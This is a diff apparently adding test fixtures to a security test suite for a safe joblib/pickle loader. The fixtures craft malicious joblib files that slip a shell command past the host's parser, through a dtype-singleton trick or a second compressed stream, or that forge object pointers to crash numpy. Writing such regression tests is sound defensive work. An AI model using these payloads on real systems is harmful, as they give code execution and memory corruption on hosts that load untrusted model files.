@@ -161,3 +161,84 @@ def joblib_bomb(d: Path, marker: str) -> Path:
     p = d / "bomb.joblib"
     p.write_bytes(b"".join(parts))
     return p
+
+
+# --- attacker review: layouts the host once read otherwise than joblib and numpy do ------------
+
+
+def _dtype_wrapper(shape: tuple[int, ...], descr: bytes, copy: bool, flags: int) -> bytes:
+    """A pickle that stops after a wrapper whose dtype is numpy.dtype(descr, False, copy) set
+    to the state (3, '|', None, None, None, -1, -1, flags)."""
+    body = bytearray(b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(")
+    body += b"X\x05\x00\x00\x00shape" + _tuple(shape)
+    body += b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX" + struct.pack("<I", len(descr)) + descr
+    body += b"\x89" + (b"\x88" if copy else b"\x89") + b"\x87R"
+    body += b"(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK"
+    body += bytes([flags]) + b"tbX\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
+    body += b"X\x1b\x00\x00\x00numpy_array_alignment_bytesNub"
+    return bytes(body)
+
+
+def _nested_command(marker: str, room: int) -> bytes:
+    """A pickle of the command padded with NONE, POP pairs to exactly `room` bytes."""
+    import pickle
+
+    for pad in range(2):
+        nested = pickle.dumps(_Command(shell(marker) + " " * pad), protocol=2)
+        if (room - len(nested)) % 2 == 0 and len(nested) <= room:
+            return nested + b"N0" * ((room - len(nested)) // 2)
+    raise ValueError("no room for the command")
+
+
+def joblib_dtype_singleton(d: Path, marker: str, compress: str = "xz") -> Path:
+    """An object array whose dtype is numpy.dtype('O8', False, False) (numpy's own singleton,
+    whose __setstate__ numpy ignores) with a state saying it holds no objects: the host once
+    skipped its 'array bytes', joblib reads them as a nested pickle that runs the command."""
+    import bz2
+    import lzma
+
+    n = 32
+    data = _dtype_wrapper((n,), b"O8", False, 0) + _nested_command(marker, 8 * n) + b"0N."
+    packed = {"xz": lzma.compress, "bz2": bz2.compress, "zlib": zlib.compress}[compress](data)
+    p = d / f"singleton.{compress}.joblib"
+    p.write_bytes(packed)
+    return p
+
+
+def joblib_second_stream(d: Path, marker: str, compress: str = "xz") -> Path:
+    """A joblib dump whose pickle goes on in a second concatenated xz (or bz2) stream, which
+    lzma.LZMAFile and bz2.BZ2File read on into: the command is in the second."""
+    import bz2
+    import lzma
+    import pickle
+
+    data = pickle.dumps({"a": 1, "hook": _Command(shell(marker))}, protocol=2)
+    pack = {"xz": lzma.compress, "bz2": bz2.compress}[compress]
+    p = d / f"two-streams.{compress}.joblib"
+    p.write_bytes(pack(data[:10]) + pack(data[10:]))
+    return p
+
+
+class _ForgedDtype:
+    def __reduce__(self) -> tuple[Any, ...]:
+        return (np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0))
+
+
+class _ForgedArray:
+    """An object array built from raw bytes by numpy.ndarray.__setstate__, through a dtype whose
+    flags say it holds no objects: numpy takes the bytes for object pointers (0x41414141...:
+    reading it faults). Only allowed names (numpy.dtype, _reconstruct, ndarray)."""
+
+    def __reduce__(self) -> tuple[Any, ...]:
+        from numpy._core.multiarray import _reconstruct
+
+        state = (1, (1,), _ForgedDtype(), False, b"\x41" * 8)
+        return (_reconstruct, (np.ndarray, (0,), b"b"), state)
+
+
+def forged_object_pointer(d: Path, marker: str, compress: int = 0) -> Path:
+    import joblib
+
+    p = d / f"forged{compress}.joblib"
+    joblib.dump({"w": _ForgedArray(), "x": np.ones(3)}, p, compress=compress)
+    return p
